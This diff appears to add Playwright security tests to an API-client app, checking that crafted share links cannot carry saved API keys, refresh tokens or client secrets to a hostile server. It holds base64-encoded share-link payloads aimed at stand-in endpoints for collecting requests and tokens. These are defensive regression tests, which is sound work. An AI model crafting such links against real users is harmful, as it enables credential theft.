@@ -152,3 +152,59 @@ test('a share link opens as a new unsaved configuration: the open credential’s
   // Send has no token of this configuration to attach: nothing went to the link's API.
   expect(sent.some((request) => request.includes('/collect-request'))).toBe(false);
 });
+
+/** A share link (as the app encodes them) with `auth` and a test request to the hostile server. */
+function shareLink(auth: Record<string, unknown>): string {
+  const shared = { v: 1, auth: { presetId: null, ...auth }, testRequest: { method: 'GET', url: `${HOSTILE}/collect-request` } };
+  return `./#share=${Buffer.from(JSON.stringify(shared)).toString('base64url')}`;
+}
+
+/** Every request the page sends to the hostile server, as one line of text (URL, headers, body). */
+function recordHostile(page: Page): string[] {
+  const sent: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().startsWith(HOSTILE)) sent.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`);
+  });
+  return sent;
+}
+
+test('a share link does not inherit a saved API key under its own header name', async ({ page }) => {
+  const KEY = 'demo-api-key';
+  await openApp(page);
+  await page.getByLabel('Preset').selectOption({ label: 'Local demo: API key header' });
+  await page.getByLabel('API key', { exact: true }).fill(KEY);
+  await saveAs(page, 'Keyed');
+  await expect(page.getByTestId('saved-secret')).toBeVisible();
+  const sent = recordHostile(page);
+  await page.goto(shareLink({ authType: 'api_key', apiKey: { placement: 'header', name: 'X-Collect' } }));
+  await page.getByRole('region', { name: 'Shared settings' }).getByRole('button', { name: 'Apply shared settings' }).click();
+  await expect(page.getByText('This configuration is not saved yet.')).toBeVisible();
+  await page.getByRole('button', { name: 'Send' }).click();
+  await expect(page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert')).toContainText('API key is empty');
+  for (const request of sent) expect(request).not.toContain(KEY);
+  // the saved credential still has it
+  await tile(page, 'Keyed').getByRole('button', { name: 'Open Keyed' }).click();
+  await page.getByRole('button', { name: 'Send' }).click();
+  await expect(page.getByRole('region', { name: 'Response' }).getByTestId('response-status')).toContainText('200');
+});
+
+test('a share link does not inherit the saved credential’s refresh token or secret (Renew)', async ({ page }) => {
+  await openApp(page);
+  await page.getByLabel('Preset').selectOption({ label: 'Local demo: Password grant (legacy)' });
+  await saveAs(page, 'Refreshing');
+  const accessToken = page.getByRole('textbox', { name: 'Access token' });
+  await page.getByRole('button', { name: 'Get token' }).click();
+  await expect(page.getByRole('textbox', { name: 'Refresh token' })).not.toHaveValue('');
+  const refreshToken = await page.getByRole('textbox', { name: 'Refresh token' }).inputValue();
+  const sent = recordHostile(page);
+  await page.goto(shareLink({ authType: 'oauth2', oauth2: { grantType: 'refresh_token', tokenUrl: `${HOSTILE}/collect-token`, clientId: 'demo-password', clientAuth: 'client_secret_basic' } }));
+  await page.getByRole('region', { name: 'Shared settings' }).getByRole('button', { name: 'Apply shared settings' }).click();
+  await expect(accessToken).toHaveValue('');
+  await page.getByRole('button', { name: 'Get token' }).click(); // the refresh_token grant: renew the current token
+  await expect(page.getByRole('alert').first()).toContainText('no refresh token');
+  for (const request of sent) {
+    expect(request).not.toContain(refreshToken);
+    expect(request).not.toContain('demo-password-secret');
+    expect(request).not.toContain(Buffer.from('demo-password:demo-password-secret').toString('base64'));
+  }
+});
